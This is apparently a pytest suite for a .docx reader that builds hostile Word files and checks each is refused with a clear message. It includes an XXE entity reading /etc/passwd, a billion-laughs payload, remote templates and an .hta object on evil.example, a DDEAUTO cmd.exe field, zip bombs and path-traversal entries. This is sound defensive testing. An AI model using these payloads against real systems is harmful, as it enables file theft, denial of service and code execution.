"""Files that are refused: each with its own sentence, within two seconds and 200 MiB."""

from __future__ import annotations

import re
import struct
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pytest

from cchc_docs.check.view.read import view_bytes, view_file
from cchc_docs.diagnostic import DiagnosticError

from .word import MAIN_TYPE, NAMESPACES, SECTION, Files, files, p, r, relation, relations

DAMAGED = "The file is damaged: it is not a whole Word document."
TRAP = "The file unpacks to far more than a document holds: it may be a trap."
OUTSIDE = "The file draws on something outside itself: "
ENTITIES = "The file declares entities, which no Word document does: it may be a trap."
OBJECT = "The file holds an embedded object of another program."
CHUNK = "The file embeds another document that Word takes in only when it opens it."
MACROS = "The file holds macros."
PASSWORD = "The file is protected by a password."  # noqa: S105
OLD_WORD = "This is an old Word file (.doc), not a .docx."
WEB_PAGE = "This is a web page or an XML file, not a .docx."
MANY = "The file holds more parts than a document has: it may be a trap."
TEXT = p(r("Độc lập - Tự do - Hạnh phúc")) + SECTION
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
ENABLED = "application/vnd.ms-word.document.macroEnabled.main+xml"
TYPES = str(files(TEXT).parts["[Content_Types].xml"])
WORKBOOK = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
THIEF = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_ENTITIES = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10)
)
LAUGHS = f"<!DOCTYPE d [{_ENTITIES}]>"


def changed(**changes: str | bytes) -> bytes:
    """A good file with other parts."""
    names = {"types": "[Content_Types].xml", "rels": "_rels/.rels", "main": "word/document.xml"}
    parts = dict(files(TEXT).parts)
    parts.update({names.get(name, name): content for name, content in changes.items()})
    return Files(parts).bytes()


def with_parts(parts: dict[str, str | bytes]) -> bytes:
    return Files({**files(TEXT).parts, **parts}).bytes()


def related(kind: str, target: str, mode: str = "External") -> bytes:
    return files(TEXT, relation(99, kind, target, mode)).bytes()


def flagged() -> bytes:
    """The bit of encryption set in every header."""
    data = bytearray(files(TEXT).bytes())
    for signature, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        for found in re.finditer(re.escape(signature), bytes(data)):
            data[found.start() + offset] |= 1
    return bytes(data)


def lying(size: int) -> bytes:
    """Headers that tell another size than the part has."""
    data = bytearray(files(TEXT).bytes())
    for signature, offset in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        for found in re.finditer(re.escape(signature), bytes(data)):
            struct.pack_into("<L", data, found.start() + offset, size)
    return bytes(data)


def open_document() -> bytes:
    return Files(
        {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}
    ).bytes()


def twice() -> bytes:
    buffer = BytesIO(files(TEXT).bytes())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/DOCUMENT.xml", "<x/>")
    return buffer.getvalue()


def overlapping() -> bytes:
    """Many entries of the table that point at the same packed bytes."""
    data = files(TEXT + p(r("x" * 100_000)), theme="<x>" + "y" * 4_000_000 + "</x>").bytes()
    end = data.rfind(b"PK\5\6")
    count, size, start = struct.unpack_from("<HLL", data, end + 10)
    table = data[start : start + size]
    tail = bytearray(data[end:])
    copies = 900
    copied = b"".join(table.replace(b"theme.xml", f"{n:05d}.xml".encode()) for n in range(copies))
    struct.pack_into("<HHLL", tail, 8, count * copies, count * copies, len(copied), start)
    return data[:start] + copied + bytes(tail)


def strict() -> bytes:
    spaces = NAMESPACES.replace(
        "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        "http://purl.oclc.org/ooxml/wordprocessingml/main",
    )
    kind = "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument"
    return changed(
        main=f"<w:document {spaces}><w:body>{TEXT}</w:body></w:document>",
        rels=relations(relation(1, kind, "word/document.xml")),
    )


def main(xml: str, declaration: str = "") -> bytes:
    return changed(
        main=f"{declaration}<w:document {NAMESPACES}><w:body>{xml}</w:body></w:document>"
    )


GOOD = files(TEXT).bytes()
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "The file is empty."),
    "zeros": (lambda: b"\0" * 5000, "The file is empty."),
    "noise": (lambda: b"\x13\x37" * 5000, DAMAGED),
    "half": (lambda: GOOD[: len(GOOD) // 2], DAMAGED),
    "flipped": (lambda: GOOD[:60] + bytes(60) + GOOD[120:], DAMAGED),
    "doc": (lambda: OLE + "WordDocument".encode("utf-16-le"), OLD_WORD),
    "encrypted": (lambda: OLE + "EncryptedPackage".encode("utf-16-le"), PASSWORD),
    "zip password": (flagged, PASSWORD),
    "odt": (open_document, "This is an OpenDocument text (.odt), not a .docx."),
    "rtf": (lambda: rb"{\rtf1\ansi x}", "This is a rich text file (.rtf), not a .docx."),
    "pdf": (lambda: b"%PDF-1.7 ...", "This is a PDF file, not a .docx."),
    "data file": (lambda: "loai: hop\nten: Họp\n".encode(), "This is a text file, not a .docx."),
    "web page": (lambda: b"\xef\xbb\xbf <html><body>x", WEB_PAGE),
    "mht": (lambda: b"MIME-Version: 1.0\r\n", WEB_PAGE),
    "workbook": (
        lambda: changed(types=TYPES.replace(MAIN_TYPE, WORKBOOK)),
        "This is a file of another Office program, not a .docx.",
    ),
    "strict": (strict, "The file is saved as «Strict Open XML», which few programs read."),
    "macros": (lambda: with_parts({"word/vbaProject.bin": b"x"}), MACROS),
    "macros by type": (
        lambda: changed(types=TYPES.replace(MAIN_TYPE, ENABLED)),
        MACROS,
    ),
    "template in the net": (
        lambda: with_parts({
            "word/_rels/settings.xml.rels": relations(
                relation(1, "attachedTemplate", "http://evil.example/t.dotm", "External")
            )
        }),
        OUTSIDE + "http://evil.example/t.dotm",
    ),
    "template on a server": (
        lambda: related("attachedTemplate", r"file:///\\server\share\t.dotm"),
        OUTSIDE + r"file:///\\server\share\t.dotm",
    ),
    "picture in the net": (lambda: related("image", "https://evil.example/p.png"), OUTSIDE + "https://evil.example/p.png"),
    "picture on the disk": (lambda: related("image", "file:///etc/passwd"), OUTSIDE + "file:///etc/passwd"),
    "frame in the net": (lambda: related("frame", "http://evil.example/"), OUTSIDE + "http://evil.example/"),
    "outside object": (lambda: related("oleObject", "http://evil.example/x.hta"), OBJECT),
    "object": (lambda: related("oleObject", "embeddings/oleObject1.bin", ""), OBJECT),
    "packed object": (lambda: related("package", "embeddings/a.xlsx", ""), OBJECT),
    "ActiveX": (lambda: related("control", "activeX/activeX1.xml", ""), OBJECT),
    "chunk": (lambda: related("aFChunk", "a.html", ""), CHUNK),
    "chunk alone": (lambda: main('<w:altChunk r:id="rId1"/>'), CHUNK),
    "exchange": (
        lambda: main(p("<w:r><w:instrText> DDEAUTO c:\\\\cmd.exe x</w:instrText></w:r>")),
        "The file holds a field that runs another program (DDE).",
    ),
    "laughs": (lambda: main("&l9;", LAUGHS), ENTITIES),
    "outside entity": (lambda: main("&x;", THIEF), ENTITIES),
    "wide entity": (
        lambda: changed(main=f"{LAUGHS}<d>&l9;</d>".encode("utf-16")), ENTITIES,
    ),
    "entity elsewhere": (lambda: with_parts({"customXml/item1.xml": f"{LAUGHS}<d/>"}), ENTITIES),
    "UTF-7": (
        lambda: changed(main=b'<?xml version="1.0" encoding="UTF-7"?>+ADw-d/+AD4-'), ENTITIES,
    ),
    "broken XML": (lambda: main("<w:p><w:r></w:p>"), DAMAGED),
    "deep XML": (lambda: main("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000), DAMAGED),
    "no body": (lambda: changed(main=f"<w:document {NAMESPACES}/>"), DAMAGED),
    "no main part": (lambda: changed(rels=relations()), DAMAGED),
    "bomb": (lambda: main(p(r("x" * 300_000_000))), TRAP),
    "paragraphs": (lambda: main("<w:p/>" * 200_000), TRAP),
    "tags": (lambda: main("<w:r/>" * 2_500_000), TRAP),
    "bomb beside": (lambda: with_parts({"word/media/a.bmp": b"\0" * 300_000_000}), TRAP),
    "overlaps": (overlapping, TRAP),
    "liar": (lambda: lying(10), DAMAGED),
    "big liar": (lambda: lying(20_000), DAMAGED),
    "many parts": (lambda: with_parts({f"x/{n}.bin": b"" for n in range(20_000)}), MANY),
    "two of one name": (twice, DAMAGED),
    "out of the folder": (lambda: with_parts({"../../evil.xml": "<x/>"}), DAMAGED),
    "absolute": (lambda: with_parts({"/etc/evil.xml": "<x/>"}), DAMAGED),
}  # fmt: skip


@pytest.mark.usefixtures("english")
@pytest.mark.parametrize("name", HOSTILE)
def test_it_is_refused_with_its_sentence_and_soon(name: str) -> None:
    make, sentence = HOSTILE[name]
    data = make()
    start = time.perf_counter()
    with pytest.raises(DiagnosticError) as refused:
        view_bytes(data, "a.docx")
    assert time.perf_counter() - start < 2
    [diagnostic] = refused.value.diagnostics
    assert diagnostic.message == sentence
    assert diagnostic.fix
    assert str(diagnostic.place) == "a.docx"


MEASURE = """
import re, sys
from pathlib import Path
from cchc_docs.check.view.read import view_file
from cchc_docs.diagnostic import DiagnosticError
try:
    view_file(Path(sys.argv[1]))
except DiagnosticError:
    print(re.search(r"VmHWM:\\s+(\\d+)", Path("/proc/self/status").read_text())[1])
"""


@pytest.mark.skipif(sys.platform != "linux", reason="counts memory as Linux does")
@pytest.mark.parametrize("name", HOSTILE)
def test_a_trap_does_not_fill_the_memory(name: str, tmp_path: Path) -> None:
    file = tmp_path / "a.docx"
    file.write_bytes(HOSTILE[name][0]())
    done = subprocess.run(
        [sys.executable, "-c", MEASURE, str(file)], capture_output=True, text=True, check=True
    )
    assert int(done.stdout) < 200 * 1024  # kilobytes


@pytest.mark.parametrize(
    "target", ["file:///C:\\Users\\Admin\\AppData\\Normal.dotm", "Normal.dotm"]
)
def test_the_template_on_the_authors_own_disk_is_no_harm(target: str) -> None:
    rels = relations(relation(1, "attachedTemplate", target, "External"))
    assert view_bytes(with_parts({"word/_rels/settings.xml.rels": rels}), "a.docx").sections


def test_a_link_in_the_text_is_no_harm() -> None:
    assert view_bytes(related("hyperlink", "https://example.org/"), "a.docx").sections


@pytest.mark.usefixtures("english")
def test_files_that_are_none(tmp_path: Path) -> None:
    owner = tmp_path / "~$ng bao.docx"
    owner.write_bytes(b"\x05Admin" + b" " * 156)
    for path, message in (
        (owner, "This is a note that Word keeps while a file is open, not a document."),
        (tmp_path, "This is not a file."),
        (tmp_path / "none.docx", "The file cannot be opened: there is no such file or folder."),
    ):
        with pytest.raises(DiagnosticError) as refused:
            view_file(path)
        assert refused.value.diagnostics[0].message == message


def test_every_single_bit_flip_is_read_or_refused() -> None:
    for place in range(0, len(GOOD), 7):
        data = bytearray(GOOD)
        data[place] ^= 0x10
        try:
            view_bytes(bytes(data), "a.docx")
        except DiagnosticError:
            continue
